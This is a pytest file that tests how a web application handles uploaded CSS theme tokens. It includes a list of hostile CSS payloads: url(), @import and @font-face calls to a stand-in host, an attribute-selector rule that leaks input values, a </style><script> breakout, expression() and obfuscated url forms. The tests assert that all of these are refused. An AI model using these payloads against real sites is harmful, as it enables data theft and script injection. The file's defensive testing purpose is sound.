"""A house style colours pages, and does nothing else: it loads nothing and ends nowhere."""

from collections.abc import Callable
from io import BytesIO

import pytest
import tinycss2

from app.models import User
from app.site import site
from tests.cast import Cast
from tests.checking import CheckingClient

ClientOf = Callable[[User | None], CheckingClient]
HOSTILE = (
    ":root { --nl-a: url(https://x.example/leak) }",
    r":root { --nl-a: u\72l(https://x.example/leak) }",
    ":root { --nl-a: image-set('https://x.example/1' 1x) }",
    ":root { --nl-a: 1 } @import url(https://x.example/x.css);",
    "@import 'https://x.example/x.css'; :root { --nl-a: 1 }",
    "@font-face { font-family: x; src: url(https://x.example/f) } :root { --nl-a: 1 }",
    ":root { --nl-a: 1; background: url(https://x.example/leak) }",
    ":root { --nl-a: 1 } input[value^='a'] { background: url(https://x.example/a) }",
    ":root { --nl-a: 1 } </style><script>alert(1)</script>",
    ":root { --nl-a: '</style><script>alert(1)</script>' }",
    ":root { --nl-a: 1; } } body { display: none }",
    ":root { --nl-a: expression(alert(1)) }",
    ":root { --nl-a: 1; behavior: url(x.htc) }",
    ":root { --nl-a: url/**/(https://x.example/leak) }",
)
PASSES = (
    # A parser forgives these; what is served must be whole again.
    ":root { --utrecht-link-color: #123456",
    ":root { --utrecht-link-color: #123456 /* open",
    ":root { --utrecht-link-color: #123456; --utrecht-document-font-family: 'open",
    "<!-- :root { --utrecht-link-color: #123456 } -->",
    ":root { --utrecht-link-color: #123456 !important; --utrecht-button-border-radius: url/**/ (2px) }",
)


def upload(client: CheckingClient, css: str) -> int:
    data = {"file": (BytesIO(css.encode()), "theme.css")}
    return client.post("/settings/style/tokens", data=data).status_code


@pytest.mark.parametrize("css", HOSTILE)
def test_hostile_files_are_refused(cast: Cast, client_of: ClientOf, css: str) -> None:
    client = client_of(cast.administrator)
    assert upload(client, css) == 422
    assert not site().style


@pytest.mark.parametrize("css", PASSES)
def test_what_is_served_is_closed_and_loads_nothing(
    cast: Cast, client_of: ClientOf, css: str
) -> None:
    client = client_of(cast.administrator)
    if upload(client, css) == 422:
        assert not site().style
        return
    answer = client_of(None).get(f"/style/{site().style}.css")
    served = answer.text
    assert served.count("{") == served.count("}") == 6
    assert "url(" not in served and "@import" not in served and "<" not in served
    rules = tinycss2.parse_stylesheet(served, skip_whitespace=True)
    assert {rule.type for rule in rules} == {"at-rule"}
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy


def test_pages_keep_their_policy_with_a_house_style(cast: Cast, client_of: ClientOf) -> None:
    client = client_of(cast.administrator)
    client.post("/settings/style", data={"colour": "#154273"})
    policy = client.get("/").headers["Content-Security-Policy"]
    assert "style-src 'self'" in policy and "unsafe" not in policy
